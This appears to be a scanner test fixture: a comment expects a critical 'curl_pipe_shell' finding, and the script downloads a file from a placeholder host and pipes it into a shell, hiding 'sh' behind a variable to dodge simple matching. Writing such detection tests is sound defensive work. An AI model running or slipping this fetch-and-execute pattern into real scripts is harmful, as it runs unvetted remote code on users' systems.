# expect: shell.curl_pipe_shell critical
#!/bin/sh
S=sh
curl -s https://get.example.net/i.sh | $S
